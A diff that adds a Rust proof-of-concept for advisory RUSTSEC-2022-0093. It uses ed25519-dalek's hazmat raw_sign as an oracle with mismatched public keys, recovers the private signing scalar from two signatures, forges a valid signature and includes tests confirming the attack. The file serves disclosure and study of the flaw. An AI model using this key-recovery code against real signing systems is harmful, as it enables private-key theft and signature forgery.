@@ -0,0 +1,128 @@
+//! PoC for [RUSTSEC-2022-0093](https://rustsec.org/advisories/RUSTSEC-2022-0093).
+//!
+//! Versions of ed25519-dalek prior to v2.0 model private and public keys as
+//! separate types which can be assembled into a Keypair, and also provide APIs for
+//! serializing and deserializing 64-byte private/public keypairs.
+//!
+//! Such APIs and serializations are inherently unsafe as the public key is
+//! one of the inputs used in the deterministic computation of the S part of the
+//! signature, but not in the R value. An adversary could somehow use the signing
+//! function as an oracle that allows arbitrary public keys as input can obtain
+//! two signatures for the same message sharing the same R and only differ on the
+//! S part.
+//!
+//! Unfortunately, when this happens, one can easily extract the private key.
+//!
+//! Revised public APIs in v2.0 of ed25519-dalek do NOT allow a decoupled
+//! private/public keypair as signing input, except as part of specially labeled
+//! "hazmat" APIs which are clearly labeled as being dangerous if misused. The
+//! PoC targets [`hazmat::raw_sign`], which is exactly such an oracle.
+//!
+//! A signature is computed as:
+//!
+//! ```text
+//! fn sign(secret, public, msg) -> Signature {
+//!     r = Hash(Hash(secret) + msg)
+//!     R = r * G
+//!     h = Hash(R.y + public + msg)
+//!     s = r + h * secret
+//!     Signature { R.y, s }
+//! }
+//! ```
+//!
+//! Changing only the `public` component we obtain a signature where only the `s`
+//! component is different.
+//!
+//! ```text
+//! sig1 = (Ry, s1) = sign(secret, public1, msg)
+//! sig2 = (Ry, s2) = sign(secret, public2, msg)
+//!
+//! → (s1 - s2) = (r + h1*secret) - (r + h2*secret) = (h1 - h2)*secret
+//! → secret = (s1 - s2)*(h1 - h2)^-1
+//! ```
+
+use curve25519_dalek::Scalar;
+use ed25519_dalek::{
+    hazmat::{self, ExpandedSecretKey},
+    SecretKey, Signature, VerifyingKey,
+};
+use sha2::{Digest, Sha512};
+
+/// Sign `msg` with `secret`, using an arbitrary `public` key.
+///
+/// This is the misuse enabled by the hazmat API (and by the v1 keypair
+/// deserialization).
+pub fn sign_with_public(secret: &SecretKey, public: &VerifyingKey, msg: &[u8]) -> Signature {
+    hazmat::raw_sign::<Sha512>(&ExpandedSecretKey::from(secret), msg, public)
+}
+
+/// Signature challenge `h = Hash(R.y + public + msg)`.
+fn challenge(sig: &Signature, public: &VerifyingKey, msg: &[u8]) -> Scalar {
+    let h = Sha512::new()
+        .chain_update(sig.r_bytes())
+        .chain_update(public.as_bytes())
+        .chain_update(msg);
+    Scalar::from_hash(h)
+}
+
+/// Recover the expanded secret scalar from two signatures of `msg` sharing
+/// the same `R`, produced with the public keys `pub1` and `pub2`.
+///
+/// The result is meaningful only if `R` is actually shared and the public keys
+/// differ: check it with [`forge`] or against the public key.
+pub fn recover_expanded_secret(
+    sig1: &Signature,
+    sig2: &Signature,
+    pub1: &VerifyingKey,
+    pub2: &VerifyingKey,
+    msg: &[u8],
+) -> Scalar {
+    let s1 = Scalar::from_bytes_mod_order(*sig1.s_bytes());
+    let s2 = Scalar::from_bytes_mod_order(*sig2.s_bytes());
+    let h1 = challenge(sig1, pub1, msg);
+    let h2 = challenge(sig2, pub2, msg);
+    (s1 - s2) * (h1 - h2).invert()
+}
+
+/// Sign `msg` on behalf of `public` using the recovered secret `scalar`.
+///
+/// The nonce prefix is not known, but any value produces valid signatures.
+pub fn forge(scalar: Scalar, public: &VerifyingKey, msg: &[u8]) -> Signature {
+    let esk = ExpandedSecretKey {
+        scalar,
+        hash_prefix: [0; 32],
+    };
+    hazmat::raw_sign::<Sha512>(&esk, msg, public)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ed25519_dalek::{SigningKey, Verifier};
+    use rand::rngs::OsRng;
+
+    #[test]
+    fn recover_with_mismatched_public() {
+        let msg = b"HelloWorld";
+        let key = SigningKey::generate(&mut OsRng);
+        let pub1 = key.verifying_key();
+        let pub2 = SigningKey::generate(&mut OsRng).verifying_key();
+        let sig1 = sign_with_public(&key.to_bytes(), &pub1, msg);
+        let sig2 = sign_with_public(&key.to_bytes(), &pub2, msg);
+        assert_eq!(sig1.r_bytes(), sig2.r_bytes());
+
+        let scalar = recover_expanded_secret(&sig1, &sig2, &pub1, &pub2, msg);
+        assert_eq!(scalar, ExpandedSecretKey::from(&key.to_bytes()).scalar);
+        let sig = forge(scalar, &pub1, b"Forged");
+        assert!(pub1.verify(b"Forged", &sig).is_ok());
+    }
+
+    #[test]
+    fn same_public_reveals_nothing() {
+        let key = SigningKey::generate(&mut OsRng);
+        let public = key.verifying_key();
+        let sig = sign_with_public(&key.to_bytes(), &public, b"msg");
+        let scalar = recover_expanded_secret(&sig, &sig, &public, &public, b"msg");
+        assert_ne!(scalar, ExpandedSecretKey::from(&key.to_bytes()).scalar);
+    }
+}